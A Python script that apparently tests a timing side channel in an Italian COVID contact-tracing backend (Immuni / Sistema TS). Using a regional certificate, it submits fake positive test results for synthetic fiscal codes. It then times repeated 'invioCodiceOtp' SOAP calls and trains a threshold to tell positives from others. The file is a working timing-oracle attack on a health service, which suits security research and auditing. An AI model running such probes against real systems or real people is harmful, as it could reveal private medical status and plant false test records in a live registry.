"""Tries to find out by the time of an answer of `invioCodiceOtp` who is positive, as somebody with the profile could.

asl_timing.py URL CA CERTIFICATE KEY PEOPLE

Half of the made-up PEOPLE get a positive test. For each, a one-time code that Immuni knows already is sent seven times, which uses nothing up, and the
shortest time is kept. Whoever is above or below a threshold is taken for positive; threshold and side are learnt from one half of the people and tried
on the other. Prints the medians of both kinds and how many of the people were told right: half of them is what a coin does.
"""

import http.client
import ssl
import statistics
import sys
import threading
import time
from urllib.parse import urlsplit

PROBES = 7
# Connections at once.
LANES = 4
OTP = "59FU36KR46"
OPERATOR = "CNTMRC78H03A944H"
ODD = dict(zip("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ",
               [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]))
EVEN = dict(zip("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ", list(range(10)) + list(range(26))))


def fiscal_code(number):
    """A made-up person's codice fiscale."""
    letters = "BCDFGHLMNPRSTVZ"
    name = "".join(letters[number // len(letters) ** place % len(letters)] for place in range(6))
    code = name + "75E41F205"
    total = sum((ODD if place % 2 == 0 else EVEN)[symbol] for place, symbol in enumerate(code))
    return code + chr(ord("A") + total % 26)


def envelope(service, fields):
    message = service[0].upper() + service[1:] + "Richiesta"
    return (f'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/" xmlns:s="urn:sistemats:{service}:v1" '
            f'xmlns:t="urn:sistemats:tipi:v1"><e:Body><s:{message}>{fields}</s:{message}></e:Body></e:Envelope>')


class Caller:
    def __init__(self, url, ca, certificate, key):
        self.url = urlsplit(url)
        self.context = ssl.create_default_context(cafile=ca)
        self.context.load_cert_chain(certificate, key)
        self.connection = None

    def ask(self, service, fields):
        if self.connection is None:
            self.connection = http.client.HTTPSConnection(self.url.hostname, self.url.port, context=self.context, timeout=30)
        self.connection.request("POST", f"/soap/v1/{service}", envelope(service, fields), {"Content-Type": "text/xml; charset=utf-8"})
        response = self.connection.getresponse()
        body = response.read().decode()
        if response.status != 200:
            sys.exit(f"{service}: {response.status} {body}")
        return body

    def submit(self, person):
        today = time.strftime("%Y-%m-%d")
        structure = "".join(f"<t:{name}>{value}</t:{name}>" for name, value in
                            zip(("codiceRegione", "codiceAsl", "codiceStruttura"), "010-101-000123".split("-")))
        body = self.ask("invioEsecuzioneTest", "<s:tipoAutenticazione>2F</s:tipoAutenticazione>"
                        f"<s:identificativoStruttura>{structure}</s:identificativoStruttura>"
                        f"<s:codiceFiscaleAssistito>{person}</s:codiceFiscaleAssistito><s:dataPrelievo>{today}</s:dataPrelievo>"
                        "<s:tipologiaTest>M</s:tipologiaTest><s:esitoTest>P</s:esitoTest>")
        assert ">0000<" in body, body

    def probe(self, person):
        began = time.perf_counter()
        body = self.ask("invioCodiceOtp", "<s:tipoAutenticazione>2F</s:tipoAutenticazione>"
                        f"<s:codiceFiscaleOperatore>{OPERATOR}</s:codiceFiscaleOperatore><s:codiceOtp>{OTP}</s:codiceOtp>"
                        f"<s:codiceFiscaleAssistito>{person}</s:codiceFiscaleAssistito>")
        took = time.perf_counter() - began
        assert ">5002<" in body or ">0000<" in body, body
        return took


def told_right(learnt, tried):
    """How many of `tried` are told right by the threshold and the side that tell most of `learnt` right; pairs of a time and whether it is a positive's."""
    def right(pairs, threshold, above):
        return sum((took > threshold) == (above == positive) for took, positive in pairs)
    candidates = [(right(learnt, took, above), took, above) for took, _ in learnt for above in (True, False)]
    _, threshold, above = max(candidates)
    return right(tried, threshold, above)


def main():
    url, ca, certificate, key, people = sys.argv[1:]
    people = [(fiscal_code(number + 1), number % 2 == 0) for number in range(int(people))]
    region = Caller(url, ca, certificate, key)
    # From here on somebody else's, as far as Immuni can tell.
    region.probe(fiscal_code(0))
    for person, positive in people:
        if positive:
            region.submit(person)
    shortest = {}

    def lane(which):
        caller = Caller(url, ca, certificate, key)
        places = [place for place in range(len(people)) if place // 2 % LANES == which]
        if which % 2:
            places = [place ^ 1 for place in places]
        for place in places:
            person, positive = people[place]
            shortest[place] = (min(caller.probe(person) for _ in range(PROBES)), positive)

    # Each connection asks for one of each kind in turn; of two connections one begins with the other kind, so that what they do to each other is the
    # same for both.
    lanes = [threading.Thread(target=lane, args=(which,)) for which in range(LANES)]
    for thread in lanes:
        thread.start()
    for thread in lanes:
        thread.join()
    pairs = [shortest[place] for place in range(len(people))]
    halves = pairs[: len(pairs) // 2], pairs[len(pairs) // 2 :]
    right = told_right(*halves) + told_right(*reversed(halves))
    median = {kind: 1_000 * statistics.median(took for took, positive in pairs if positive == kind) for kind in (True, False)}
    print(f"| people | probes each | median of positives, ms | median of others, ms | told right |\n|---|---|---|---|---|\n"
          f"| {len(pairs)} | {PROBES} | {median[True]:.2f} | {median[False]:.2f} | {100 * right / len(pairs):.0f} % |")


main()
